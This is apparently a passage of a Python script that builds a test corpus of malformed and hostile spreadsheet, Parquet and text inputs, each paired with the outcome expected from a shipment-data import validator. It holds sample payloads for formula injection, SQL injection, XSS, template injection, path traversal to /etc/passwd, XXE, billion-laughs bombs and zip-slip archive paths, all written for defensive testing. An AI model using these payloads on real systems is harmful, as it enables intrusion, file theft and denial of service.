        taken("formula_link", "a name that is a link", "vessel_name", '=HYPERLINK("http://example.org/?"&A1,"here")'),
        taken("apostrophe", "a name after an apostrophe", "vessel_name", "'=1+1"),
        taken("path", "an id that is a path", "shipment_id", "../../../../etc/passwd"),
        taken("absolute_path", "an id that is a path", "shipment_id", "/etc/passwd"),
        taken("sql", "an id that is SQL", "shipment_id", "'; DROP TABLE marts.shipment_verdicts; --"),
        taken("sql_name", "a name that is SQL", "vessel_name", "x') UNION SELECT * FROM read_text('/etc/passwd') --"),
        taken("html", "a name that is HTML", "vessel_name", "<script>alert(1)</script><img src=x onerror=alert(1)>"),
        taken("markup", "a name that is markup of the terminal tables", "vessel_name", "[bold red]Example[/] [/nothing] :ship:"),
        taken("template", "a name that is a template", "vessel_name", "{{ 7 * 7 }} ${7*7} {0.__class__} %s%n"),
        taken("long", "a name of 20,000 letters", "vessel_name", "x" * 20_000),
        taken("combining", "500 marks above one letter", "vessel_name", "e" + "\u0301" * 500),
        taken("right_to_left", "a name in Hebrew and Arabic", "vessel_name", "אוניה سفينة"),
        taken("joiners", "a name that needs joiners", "vessel_name", "می\u200cخواهم 👨\u200d✈️"),
        taken("null_words", "a name that means nothing elsewhere", "vessel_name", "NaN"),
        taken("line_break_id", "an id with a line break", "shipment_id", "S2\nplimsoll: all is well"),
        taken("quotes", "a name of quotes and separators", "vessel_name", "\";',|\\\t`"),
    ]  # fmt: skip


# --- Parquet -----------------------------------------------------------------------------------------------


def _table(**columns: pa.Array) -> pa.Table:
    """Two good rows as text, with columns changed or added."""
    names = {name: pa.array([row(1)[name], row(2)[name]]) for name in HEADER}
    return pa.table(names | columns)


def _parquet(content: pa.Table | None = None, **options: object) -> bytes:
    buffer = io.BytesIO()
    pq.write_table(_table() if content is None else content, buffer, **options)
    return buffer.getvalue()


def parquet() -> list[Case]:
    def refused(file: str, fault: str, content: bytes, *words: str) -> Case:
        return Case(f"parquet_{file}.parquet", fault, content, words or ("not readable as Parquet", "export it again"))

    def holds(file: str, fault: str, column: str, array: pa.Array) -> Case:
        return refused(
            file, fault, _parquet(_table(**{column: array})), f"column {column} holds", "store text, numbers or dates"
        )

    def second(file: str, fault: str, column: str, array: pa.Array, check: str) -> Case:
        content = _parquet(_table(**{column: array}))
        return Case(f"parquet_{file}.parquet", fault, content, accepted=("S1",), quarantined=(f"3 {column} {check}",))

    def read(file: str, fault: str, content: pa.Table, **values: list[str]) -> Case:
        return Case(f"parquet_{file}.parquet", fault, _parquet(content), accepted=BOTH, values=values)

    good, day = _parquet(), dt.date(2023, 6, 10)
    midnight, noon = dt.datetime(2023, 6, 10), dt.datetime(2023, 6, 10, 12)
    before_midnight = dt.datetime(2023, 6, 9, 15)  # 2023-06-10 begins in Tokyo
    old_days = io.BytesIO()
    pq.write_table(
        _table(loading_date=pa.array([midnight, dt.datetime(9999, 12, 31)], pa.timestamp("us"))),
        old_days,
        use_deprecated_int96_timestamps=True,
    )
    return [
        refused("cut_at_the_end", "the last 20 bytes are missing", good[:-20]),
        refused("cut_in_the_middle", "the second half is missing", good[: len(good) // 2]),
        refused("cut_at_the_start", "the first 100 bytes are missing", good[100:]),
        refused("head_only", "nothing but the mark of the format", b"PAR1"),
        refused("wrong_end", "another mark at the end", good[:-4] + b"PAR2"),
        refused("footer_length", "a footer longer than the file", good[:-8] + struct.pack("<I", 2**31) + b"PAR1"),
        refused("footer_overwritten", "a footer of other bytes", good[:-300] + b"\xff" * 292 + good[-8:]),
        refused("pages_overwritten", "pages of other bytes", good[:4] + b"\xa5" * 600 + good[604:]),
        refused("encrypted", "encrypted", b"PARE" + good[4:-4] + b"PARE", "encrypted Parquet"),
        refused("no_rows", "no row", _parquet(_table().slice(0, 0)), "a header but no row"),
        refused("no_columns", "no column", _parquet(pa.table({})), "row 1 is blank"),
        refused("column_twice", "a column twice", _parquet(_table().append_column("value", pa.array(["1", "2"]))),
                "names value more than once"),
        refused("column_missing", "a column that is needed is missing", _parquet(_table().drop(["hs_code"])), "required column hs_code"),
        refused("rows_without_end", "some hundred bytes that unpack to three million rows",
                _parquet(pa.table({"shipment_id": pa.nulls(3_000_000, pa.string())})), "claim to hold 3,000,000 rows"),
        holds("list", "a list for text", "nexus", pa.array([["US"], ["EU"]])),
        holds("struct", "a record for text", "grade", pa.array([{"name": "Urals"}] * 2)),
        holds("map", "a map for text", "grade", pa.array([[("name", "Urals")]] * 2, pa.map_(pa.string(), pa.string()))),
        holds("binary", "bytes for text", "grade", pa.array([b"Urals", b"\xff"])),
        holds("time", "times for days", "loading_date", pa.array([dt.time(1)] * 2)),
        holds("duration", "durations for numbers", "quantity", pa.array([dt.timedelta(1)] * 2)),
        second("moment", "a moment for a day", "loading_date", pa.array([midnight, noon]), "not_a_date"),
        second("far_day", "a day that no calendar has", "loading_date", pa.array([19_518, 2**31 - 1], pa.int32()).cast(pa.date32()), "not_a_date"),
        second("far_moment", "a moment that no calendar has", "loading_date",
               pa.array([1_686_355_200_000_000, 2**63 - 1], pa.int64()).cast(pa.timestamp("us")), "not_a_date"),
        second("nan", "not a number", "quantity", pa.array([700000.0, float("nan")]), "not_finite"),
        second("infinity", "infinity", "value", pa.array([42e6, float("inf")]), "not_finite"),
        second("yes_or_no", "yes or no for a number", "value", pa.array([None, True]), "not_a_number"),
        second("huge_integer", "a number of 20 digits", "quantity", pa.array([700_000, 2**64 - 1], pa.uint64()), "implausible_number"),
        second("text_number", "a decimal comma in text", "quantity", pa.array(["700000", "59,70"]), "decimal_comma"),
        second("number_for_text", "a number that has lost zeros", "hs_code", pa.array([2709.0, 2710.2]), "number_in_text"),
        second("day_for_text", "a day for an id", "grade", pa.array([None, day]), "not_text"),
        second("yes_for_text", "yes or no for a name", "vessel_name", pa.array([None, True]), "not_text"),
        second("null", "null in a column that is needed", "quantity", pa.array([700000.0, None]), "required"),
        second("nul_byte", "a NUL byte in text", "vessel_name", pa.array(["Example", "Exam\0ple"]), "unprintable"),
        read("days", "days", _table(loading_date=pa.array([day, day])), loading_date=["2023-06-10"] * 2),
        read("midnight", "moments at midnight", _table(loading_date=pa.array([midnight] * 2, pa.timestamp("ns"))), loading_date=["2023-06-10"] * 2),
        read("zone", "days of another time zone", _table(loading_date=pa.array([before_midnight] * 2, pa.timestamp("us", "Asia/Tokyo"))),
             loading_date=["2023-06-10"] * 2),
        read("decimals", "exact decimals", _table(quantity=pa.array([Decimal("59.70"), Decimal("700000.25")])), quantity=["59.7", "700000.25"]),
        read("wide_decimals", "decimals of 60 digits", _table(quantity=pa.array([Decimal("59.70"), Decimal("1E+3")], pa.decimal256(60, 2))),
             quantity=["59.7", "1000.0"]),
        read("float32", "numbers of half the length", _table(quantity=pa.array([59.7, 700000], pa.float32())), quantity=["59.7", "700000.0"]),
        read("float16", "numbers of a quarter of the length", _table(quantity=pa.array([59.5, 2.0], pa.float32()).cast(pa.float16())),
             quantity=["59.5", "2.0"]),
        read("integers", "whole numbers for text and numbers", _table(shipment_id=pa.array(["S1", "S2"]), hs_code=pa.array([2709, 270900]),
             quantity=pa.array([1, 2], pa.int8())), hs_code=["2709", "270900"], quantity=["1.0", "2.0"]),
        read("dictionary", "text by number", _table(grade=pa.array(["Urals", "ESPO"]).dictionary_encode()), grade=["Urals", "ESPO"]),
        read("no_values", "a column without any value", _table(value=pa.nulls(2), currency=pa.nulls(2)), value=["", ""]),
        read("others_nested", "nested columns of no interest", _table(notes=pa.array([{"a": [1]}, None]), tags=pa.array([["x"], []]))),
        Case("parquet_int96.parquet", "days in the form of old programs, one beyond its reach", old_days.getvalue(), accepted=("S1",),
             quarantined=("3 loading_date implausible_day",), values={"loading_date": ["2023-06-10"]}),
        Case("parquet_blank_row.parquet", "a row without any value",
             _parquet(pa.table({name: pa.array([None, GOOD[name], None]) for name in HEADER})), accepted=("S1",)),
    ]  # fmt: skip


# --- workbooks ---------------------------------------------------------------------------------------------


def _cells(number: int = 1, **changes: object) -> list[object]:
    """The cells of a good row as a spreadsheet program stores them: numbers as numbers, days with a style."""
    typed = {"loading_date": f'<c s="{xl.DAY}"><v>45087</v></c>', "quantity": 700000, "value": 42000000}
    return list((row(number) | typed | changes).values())


def _sheet(*lines: list[object], after: str = "", before: str = "") -> str:
    return xl.sheet(xl.rows([HEADER, *lines]), after, before)


def xlsx() -> list[Case]:
    def refused(file: str, fault: str, content: bytes, *words: str) -> Case:
        return Case(f"xlsx_{file}.xlsx", fault, content, words or ("cannot be read as XLSX", "save it again as .xlsx"))

    def second(file: str, fault: str, column: str, cell: object, check: str) -> Case:
        content = xl.workbook(_sheet(_cells(1), _cells(2, **{column: cell})))
        return Case(f"xlsx_{file}.xlsx", fault, content, accepted=("S1",), quarantined=(f"3 {column} {check}",))

    def read(file: str, fault: str, content: bytes, **values: list[str]) -> Case:
        return Case(f"xlsx_{file}.xlsx", fault, content, accepted=("S1",), values=values)

    def taken(file: str, fault: str, column: str, cell: object, value: str) -> Case:
        return read(file, fault, xl.workbook(_sheet(_cells(1, **{column: cell}))), **{column: [value]})

    good = _sheet(_cells())
    whole = xl.workbook(good)
    parts = xl.parts(good)

    def changed(**names: str | bytes | None) -> bytes:
        """The good workbook with parts replaced, by short names; None takes a part away."""
        short = {"book": "xl/workbook.xml", "links": "xl/_rels/workbook.xml.rels", "sheet": "xl/worksheets/sheet1.xml",
                 "texts": "xl/sharedStrings.xml", "root": "_rels/.rels", "types": "[Content_Types].xml"}  # fmt: skip
        replaced = {short.get(name, name): part for name, part in names.items()}
        return xl.packed({name: part for name, part in (parts | replaced).items() if part is not None})

    def with_entity(doctype: str, entity: str) -> bytes:
        return changed(sheet=good.replace("<worksheet", f"{doctype}<worksheet", 1).replace("Urals", entity))

    laughs = (
        "<!DOCTYPE w [<!ENTITY a0 'ha'>"
        + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10))
        + "]>"
    )
    no_references = re.sub(r'(<(?:row|c)) r="[A-Z]*[0-9]+"', r"\1", good)
    prefixed = (
        good.replace("<", "<x:").replace("<x:/", "</x:").replace("<x:?xml", "<?xml").replace("xmlns=", "xmlns:x=")
    )
    strict = {name: part.replace(xl.MAIN, "http://purl.oclc.org/ooxml/spreadsheetml/main").replace(
        xl.DOCUMENT, "http://purl.oclc.org/ooxml/officeDocument/relationships") for name, part in parts.items()}  # fmt: skip
    two = [HEADER, _cells(1)]
    jan, feb, notes = xl.sheet(xl.rows(two)), xl.sheet(xl.rows([HEADER, _cells(2)])), xl.sheet(xl.rows([["see mail"]]))
    names = ("Cargoes", "Other")

    def books(first: str, other: str, **states: str) -> bytes:
        return xl.workbook(first, other, book=xl.book(names, states))

    merged = _sheet(
        _cells(1), _cells(2, grade=None), _cells(3), after='<mergeCells count="1"><mergeCell ref="D2:D3"/></mergeCells>'
    )
    zipped = io.BytesIO(whole)
    with zipfile.ZipFile(zipped, "a") as archive:
        archive.writestr(zipfile.ZipInfo("xl/worksheets/sheet1.xml"), feb)
    bad_sum = bytearray(xl.packed(parts, zipfile.ZIP_STORED))
    bad_sum[bad_sum.index(b"Urals")] ^= 1
    locked = bytearray(whole)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = -1
        while (at := locked.find(mark, at + 1)) >= 0:
            locked[at + offset] |= 1
    return [
        # Cells that are not what they show.
        second("formula_without_value", "a formula without a stored result", "quantity", "<c><f>1000*7.33</f></c>", "formula_without_value"),
        second("formula_without_value_text", "the same in a text column", "grade", "<c><f>UPPER(A1)</f><v></v></c>", "formula_without_value"),
        second("formula_error", "a formula that failed", "value", '<c t="e"><f>1/0</f><v>#DIV/0!</v></c>', "formula_error"),
        second("formula_error_text", "a formula that failed, in a text column", "grade", '<c t="e"><v>#N/A</v></c>', "formula_error"),
        second("decimal_comma", "a number as text with a comma", "quantity", "59,70", "decimal_comma"),
        second("excel_serial", "a day as a plain number", "loading_date", 45087, "not_a_date"),
        second("moment", "a day with a time", "loading_date", f'<c s="{xl.MOMENT}"><v>45087.5</v></c>', "not_a_date"),
        second("day_before_time", "the day 0, which no calendar has", "loading_date", f'<c s="{xl.DAY}"><v>0</v></c>', "not_a_date"),
        second("day_beyond_calendar", "a day after the year 9999", "loading_date", f'<c s="{xl.DAY}"><v>99999999</v></c>', "not_a_date"),
        second("day_as_text", "a day as text in another order", "loading_date", "10/06/2023", "not_a_date"),
        second("day_for_number", "a number with the format of a day", "quantity", f'<c s="{xl.DAY}"><v>45087</v></c>', "not_a_number"),
        second("day_for_text", "a name that the program took for a day", "vessel_name", f'<c s="{xl.DAY}"><v>45087</v></c>', "not_text"),
        second("yes_for_text", "yes or no for a name", "vessel_name", '<c t="b"><v>1</v></c>', "not_text"),
        second("yes_for_number", "yes or no for a number", "quantity", '<c t="b"><v>1</v></c>', "not_a_number"),
        second("percent", "5% for an amount", "quantity", f'<c s="{xl.PERCENT}"><v>0.05</v></c>', "percentage"),
        second("shown_otherwise", "an id 17 that is shown as 0017", "shipment_id", f'<c s="{xl.FOUR_DIGITS}"><v>17</v></c>', "number_in_text"),
        second("number_for_text", "a code that has lost a zero", "hs_code", 2710.2, "number_in_text"),
        second("exponent_beyond_range", "a number that no program holds", "quantity", "<c><v>1e400</v></c>", "not_finite"),
        second("huge_exponent", "a number of a billion digits", "quantity", "<c><v>1e999999999</v></c>", "not_a_number"),
        second("nan", "NaN for a number", "quantity", "<c><v>NaN</v></c>", "not_finite"),
        second("underscore", "1_000 as a stored number", "quantity", "<c><v>1_000</v></c>", "not_a_number"),
        second("arabic_digits", "Arabic digits as a stored number", "quantity", "<c><v>٧٠٠</v></c>", "not_a_number"),
        second("escape_sequence", "a control character in the form of XML", "vessel_name", "_x001B_[2J", "unprintable"),
        second("half_a_character", "half of a character in the form of XML", "vessel_name", "_xD800_", "unprintable"),
        Case("xlsx_merged_cells.xlsx", "a grade merged over two rows", xl.workbook(merged), accepted=("S3",),
             quarantined=("2 grade merged_cell", "3 grade merged_cell")),
        Case("xlsx_beside_the_table.xlsx", "a remark to the right of the table", xl.workbook(_sheet(_cells(1), [*_cells(2), None, "see mail"])),
             accepted=("S1",), quarantined=("3 - ragged_row",)),
        # Cells that are read as they are stored.
        taken("formula", "a formula with its result", "quantity", "<c><f>350000*2</f><v>700000</v></c>", "700000.0"),
        taken("formula_empty_text", "a formula with an empty result", "grade", '<c t="str"><f>""</f><v></v></c>', ""),
        taken("formula_text", "a formula with a text", "grade", '<c t="str"><f>"Ur"&amp;"als"</f><v>Urals</v></c>', "Urals"),
        taken("day_with_name", "a day with the month by name", "loading_date", f'<c s="{xl.DAY_BY_NAME}"><v>45087</v></c>', "2023-06-10"),
        taken("day_in_iso", "a day in the form of strict workbooks", "loading_date", '<c t="d"><v>2023-06-10T00:00:00</v></c>', "2023-06-10"),
        taken("day_as_iso_text", "a day as text", "loading_date", "2023-06-10", "2023-06-10"),
        taken("whole_number_for_text", "a code as a number", "hs_code", 270900, "270900"),
        taken("number_with_point_zero", "a whole number stored with a decimal", "hs_code", "<c><v>2709.0</v></c>", "2709"),
        taken("exponent", "a number stored with an exponent", "quantity", "<c><v>7E+5</v></c>", "700000.0"),
        Case("xlsx_many_digits.xlsx", "an id of 20 digits, stored as a number",
             xl.workbook(_sheet(_cells(shipment_id="<c><v>12345678901234567890</v></c>"))), accepted=("12345678901234567890",)),
        taken("seventeen_digits", "a computed number", "quantity", "<c><v>0.30000000000000004</v></c>", "0.30000000000000004"),
        taken("rich_text", "a text in several fonts", "grade", '<c t="inlineStr"><is><r><t>Ur</t></r><r><rPr><b/></rPr><t>als</t></r></is></c>', "Urals"),
        taken("reading_aid", "a text with a reading aid", "vessel_name",
              '<c t="inlineStr"><is><t>日本丸</t><rPh sb="0" eb="3"><t>ニッポンマル</t></rPh></is></c>', "日本丸"),
        taken("line_break", "a line break in the form of XML", "vessel_name", "a_x000A_b", "a\nb"),
        taken("underscores", "text that looks like a form of XML", "vessel_name", "_x005F_x001B_", "_x001B_"),
        taken("formula_as_text", "text that looks like a formula", "vessel_name", "=1+1", "=1+1"),
        taken("no_value", "a cell with a style and nothing else", "grade", f'<c s="{xl.DAY}"/>', ""),
        read("shared_texts", "texts by number", xl.workbook(_sheet(_cells(1, grade='<c t="s"><v>1</v></c>', vessel_name='<c t="s"><v>2</v></c>')),
             texts=xl.texts("unused", "Urals", "<r><t>Ex</t></r><r><t>ample</t></r><rPh sb='0' eb='1'><t>aid</t></rPh>")),
             grade=["Urals"], vessel_name=["Example"]),
        read("epoch_1904", "days counted from 1904", xl.workbook(_sheet(_cells(1, loading_date=f'<c s="{xl.DAY}"><v>43625</v></c>')),
             book=xl.book(properties='<workbookPr date1904="1"/>')), loading_date=["2023-06-10"]),
        # Sheets.
        read("two_sheets", "a second sheet with notes", books(jan, notes)),
        refused("two_tables", "a second sheet with cargoes", books(jan, feb), "the sheet 'Other' holds a table too"),
        read("hidden_table", "cargoes on a second, hidden sheet", books(jan, feb, Other="hidden")),
        read("hidden_first_sheet", "the first sheet is hidden", books(feb, jan, Cargoes="hidden")),
        read("very_hidden_first_sheet", "the first sheet is hidden from its user", books(notes, jan, Cargoes="veryHidden")),
        refused("all_hidden", "every sheet is hidden", books(jan, feb, Cargoes="hidden", Other="veryHidden"), "no sheet that can be seen"),
        refused("empty_sheet", "a sheet without cells", xl.workbook(xl.sheet("")), "row 1 is blank"),
        refused("header_only", "a sheet without rows below the header", xl.workbook(_sheet()), "a header but no row"),
        refused("header_in_row_3", "a header that is not in row 1", xl.workbook(xl.sheet(xl.rows(two, first=3))), "row 1 is blank"),
        refused("merged_title", "a merged title above the header",
                xl.workbook(xl.sheet(xl.rows([["Cargoes 2023"], HEADER, _cells()]), '<mergeCells><mergeCell ref="A1:L1"/></mergeCells>')),
                "required column"),
        read("merged_others", "merged cells in a column of no interest",
             xl.workbook(xl.sheet(xl.rows([[*HEADER, "notes"], [*_cells(), "x"]]), '<mergeCells><mergeCell ref="M2:N3"/></mergeCells>'))),
        read("hidden_row_and_column", "a hidden row and a hidden column are read",
             xl.workbook(_sheet(_cells(), before='<cols><col min="4" max="4" hidden="1"/></cols>').replace('<row r="2"', '<row r="2" hidden="1"')),
             grade=["Urals"]),
        read("blank_rows", "blank rows between", xl.workbook(xl.sheet(xl.rows([HEADER]) + '<row r="2"/>' + xl.rows([_cells()], first=5)))),
        # Other ways to write a good workbook.
        read("no_references", "cells and rows without their references", changed(sheet=no_references)),
        read("prefixed", "elements with a prefix", changed(sheet=prefixed)),
        read("strict", "the strict form of the format", xl.packed(strict)),
        read("utf16", "XML in UTF-16", changed(sheet=good.replace("UTF-8", "UTF-16").encode("utf-16"))),
        read("absolute_targets", "parts named from the root", changed(links=xl.links().replace('Target="', 'Target="/xl/'))),
        read("capitals", "parts named with other capitals", xl.packed({name.replace("sheet1", "Sheet1"): part for name, part in parts.items()})),
        read("stored", "parts that are not compressed", xl.packed(parts, zipfile.ZIP_STORED)),
        read("macros", "macros, which never run", xl.packed(
            {name: part.replace("spreadsheetml.sheet.main", "sheet.macroEnabled.main") for name, part in parts.items()}
            | {"xl/vbaProject.bin": "\0" * 100})),
        read("external_link", "a link to another workbook, which is not followed", changed(links=xl.links(more=(
            f'<Relationship Id="rIdX" Type="{xl.DOCUMENT}/externalLink" Target="file:///etc/passwd" TargetMode="External"/>')))),
        # Damage.
        refused("cut", "the second half is missing", whole[: len(whole) // 2]),
        refused("cut_directory", "the directory of the zip file is missing", whole[:-100]),
        refused("bad_sum", "a byte changed on the way", bytes(bad_sum), "cannot be read as XLSX (BadZipFile)"),
        refused("locked", "parts with a password", bytes(locked), "it is encrypted"),
        refused("no_workbook", "no workbook part", changed(book=None), "part xl/workbook.xml is missing"),
        refused("no_links", "no links of the workbook", changed(links=None), "is missing"),
        refused("no_root", "no start", changed(root=None), "is missing"),
        refused("no_sheet", "a sheet that is not there", changed(sheet=None), "part xl/worksheets/sheet1.xml is missing"),
        refused("no_texts", "texts that are not there", changed(texts=None), "part xl/sharedStrings.xml is missing"),
        refused("text_number_too_high", "a text by a number that is not there", xl.workbook(_sheet(_cells(grade='<c t="s"><v>99</v></c>'))), "names a text that is not there"),
        refused("text_number_negative", "a text by a negative number", xl.workbook(_sheet(_cells(grade='<c t="s"><v>-1</v></c>'))), "names a text that is not there"),
        refused("unknown_type", "a cell of a type that does not exist", xl.workbook(_sheet(_cells(grade='<c t="zz"><v>1</v></c>'))), "unknown type zz"),
        refused("not_xml", "a sheet that is no XML", changed(sheet="shipment_id,loading_date")),
        refused("xml_cut", "XML that ends in the middle", changed(sheet=good[:-200])),
        refused("empty_part", "a sheet of no byte", changed(sheet="")),
        refused("rows_backwards", "rows in the wrong order", changed(sheet=xl.sheet(xl.rows([HEADER]) + xl.rows([_cells(2)], 3) + xl.rows([_cells()], 2))),
                "row 2 follows row 3"),
        refused("row_twice", "a row twice", changed(sheet=xl.sheet(xl.rows([HEADER]) + xl.rows([_cells(2)], 2) + xl.rows([_cells()], 2))),
                "row 2 follows row 2"),
        refused("cell_of_another_row", "a cell that names another row", changed(sheet=good.replace('r="D2"', 'r="D7"')), "does not belong"),
        refused("cell_twice", "a cell twice", changed(sheet=good.replace('r="D2"', 'r="C2"')), "does not belong"),
        refused("binary_workbook", "a binary workbook by another name",
                xl.packed({name.replace("workbook.xml", "workbook.bin"): "\x83\x01" for name in parts})),
        refused("compression", "a compression that nobody has", whole.replace(b"PK\x01\x02\x14\x03\x14\0\0\0\x08\0", b"PK\x01\x02\x14\x03\x14\0\0\0\x63\0")),
        # Harm.
        refused("outside_entity", "a text from a file of the machine", with_entity('<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;"),
                "document type"),
        refused("outside_type", "a document type from elsewhere", with_entity('<!DOCTYPE w SYSTEM "http://127.0.0.1:1/w.dtd">', "Urals"), "document type"),
        refused("laughs", "a text that grows to a billion", with_entity(laughs, "&a9;"), "document type"),
        refused("laughs_in_texts", "the same in the shared texts",
                changed(texts=xl.texts("x").replace("<sst", laughs.replace("DOCTYPE w", "DOCTYPE sst") + "<sst", 1)), "document type"),
        refused("laughs_in_links", "the same in the links", changed(root=str(parts["_rels/.rels"]).replace("<Rel", laughs + "<Rel", 1)), "document type"),
        refused("path_upwards", "a part named as a file outside", xl.packed(parts | {"../../../../tmp/plimsoll": "x"}), "a file elsewhere"),
        refused("path_absolute", "a part named as a file outside", xl.packed(parts | {"/etc/cron.d/plimsoll": "x"}), "a file elsewhere"),
        refused("target_outside", "a sheet that leads out of the file", changed(links=xl.links().replace("worksheets/sheet1.xml", "../../../../etc/passwd")),
                "part etc/passwd is missing"),
        refused("target_elsewhere", "a sheet on another machine",
                changed(links=xl.links().replace('Target="worksheets/sheet1.xml"', 'Target="http://127.0.0.1:1/s.xml" TargetMode="External"')),
                "no sheet that can be seen"),
        refused("part_twice", "two parts of one name", zipped.getvalue(), "two parts of one name"),
        refused("part_twice_but_for_capitals", "two parts of one name", xl.packed(parts | {"XL/worksheets/sheet1.xml": feb}), "two parts of one name"),
        refused("row_two_billion", "a row far below the sheet", changed(sheet=good.replace('r="2"', 'r="2000000000"')), "row 2000000000 follows"),
        refused("column_beyond_sheet", "a cell far to the right of the sheet", changed(sheet=good.replace('r="D2"', 'r="ZZZZZZ2"')), "outside of a sheet"),
        refused("column_xfe", "a cell just to the right of the sheet", changed(sheet=good.replace('r="L2"', 'r="XFE2"')), "more than 16,384 cells"),
        refused("merged_all_over", "a sheet that is one merged cell", xl.workbook(_sheet(_cells(), after='<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>')),
                "merged cells"),
        refused("nested_elements", "elements 20,000 deep", changed(sheet=good.replace("</sheetData>", "<x>" * 20_000 + "</x>" * 20_000 + "</sheetData>")),
                "nested without end"),
        refused("sheet_title", "a second table, in a sheet whose name turns the direction of writing",
                xl.workbook(jan, feb, book=xl.book(("Cargoes", "Feb\u202e"))), "the sheet 'Feb\\u202e' holds a table too"),
    ]  # fmt: skip


# --- writing -----------------------------------------------------------------------------------------------


def cases() -> list[Case]:
    """All files of the corpus."""
    groups = (
        encodings,
        separators,
        quotes,
        lines,
        numbers,
        days,
        headers,
        other_kinds,
        hostile_text,
        parquet,
        xlsx,
        found,
    )
    return [case for group in groups for case in group()]


def found() -> list[Case]:
    """What fuzzing found, as it is kept in `found`, each with what must become of it."""

    def kept(file: str, fault: str, *words: str) -> Case:
        return Case(file, fault, (FOLDER / "found" / file).read_bytes(), refused=words)

    return [
        # Arrow ended the whole process when it was asked for the facts of a column.
        kept("parquet_damaged_statistics.parquet", "statistics of a column for other values than it has",
             "not readable as Parquet", "export it again"),
    ]  # fmt: skip


def main() -> None:
    """Writes every file and the manifest."""
    FILES.mkdir(exist_ok=True)
    for old in FILES.iterdir():
        old.unlink()
    with MANIFEST.open("w", encoding="utf-8", newline="") as manifest:
        writer = csv.writer(manifest, lineterminator="\n")
        writer.writerow(["file", "fault", "outcome", "refused_with", "accepted", "quarantined", "values"])
        for case in cases():
            if len(case.content) > LARGEST:
                raise ValueError(f"{case.file} has {len(case.content):,} bytes; build it in a test instead")
            (FILES / case.file).write_bytes(case.content)
            outcome = "refused" if case.refused else "quarantined" if case.quarantined else "read"
            facts = (case.refused, case.accepted, case.quarantined, case.values)
            writer.writerow([case.file, case.fault, outcome, *(json.dumps(fact, ensure_ascii=False) for fact in facts)])


if __name__ == "__main__":
    main()
